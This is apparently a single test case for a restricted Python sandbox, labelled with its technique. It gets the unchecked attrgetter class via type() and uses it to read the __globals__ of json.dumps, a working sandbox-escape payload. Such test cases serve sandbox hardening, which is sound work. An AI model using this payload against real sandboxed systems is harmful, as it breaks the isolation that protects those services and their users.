# technique: type() of the object operator.attrgetter returned was the real, unchecked C class
# expect: any
import operator, json
AG = type(operator.attrgetter("real"))
AG("__globals__")(json.dumps)
